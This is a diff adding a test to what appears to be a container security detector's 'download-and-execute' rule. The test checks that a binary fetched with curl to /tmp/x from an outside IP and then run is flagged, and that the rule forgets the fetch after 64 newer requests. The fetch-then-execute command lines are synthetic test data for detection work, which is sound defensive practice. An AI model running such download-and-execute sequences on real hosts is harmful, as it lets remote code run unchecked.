@@ -2,7 +2,8 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import { downloadAndExecute } from '../../../../../controlplane/src/detections/rules/download-and-execute';
 import { CONTAINER_ID, containerStarted, execEvent } from '../../../../helpers/synthetic-events';
-import { contextAfter } from '../../../../helpers/rule-context';
+import { contextAfter, ruleContext } from '../../../../helpers/rule-context';
+import { ContainerRegistry } from '../../../../../controlplane/src/correlation/container-registry';
 
 const started = containerStarted({ containerId: CONTAINER_ID, namespace: 'x', pod: 'p', podUid: 'u' });
 const exec = (filename: string, argv: string[], pid = 7000) => execEvent({ pid, nsPid: pid - 6900, filename, argv, containerId: CONTAINER_ID });
@@ -96,5 +97,26 @@ describe('rule download-and-execute: review finding 11', () => {
     const install = line('curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 && chmod 700 get_helm.sh && ./get_helm.sh');
     assert.ok(after([install]), 'an installer run in a workload is what the rule is for');
     assert.equal(after([install], 'jenkins/inbound-agent:latest'), null, 'build images are not judged');
+  });
+});
+
+describe('rule download-and-execute: one container over time', () => {
+  test('a download made after the container was last judged counts, and one forgotten past the 64 kept does not', () => {
+    const registry = new ContainerRegistry();
+    const ctx = { ...ruleContext(), container: () => registry.get(CONTAINER_ID) };
+    let pid = 8000;
+    const judge = (filename: string, argv: string[]) => {
+      const ev = execEvent({ pid: ++pid, nsPid: 50, filename, argv, containerId: CONTAINER_ID });
+      registry.observe(ev, 0);
+      return downloadAndExecute.match(ev, ctx);
+    };
+    registry.observe(started, 0);
+    for (let i = 0; i < 3; i++) for (let k = 0; k < 20; k++) assert.equal(judge('/usr/bin/curl', ['curl', '-s', `http://svc-${k}.shop.svc:8080/healthz`]), null);
+    assert.equal(judge('/tmp/x', ['/tmp/x']), null, 'nothing was downloaded yet');
+    assert.equal(judge('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x']), null);
+    assert.equal(judge('/usr/bin/curl', ['curl', '-s', 'http://svc-3.shop.svc:8080/healthz']), null);
+    assert.ok(judge('/tmp/x', ['/tmp/x']), 'the download since is found');
+    for (let k = 0; k < 64; k++) judge('/usr/bin/curl', ['curl', '-s', `http://other-${k}.shop.svc/healthz`]);
+    assert.equal(judge('/tmp/x', ['/tmp/x']), null, 'the download was forgotten with the oldest fetches');
   });
 });
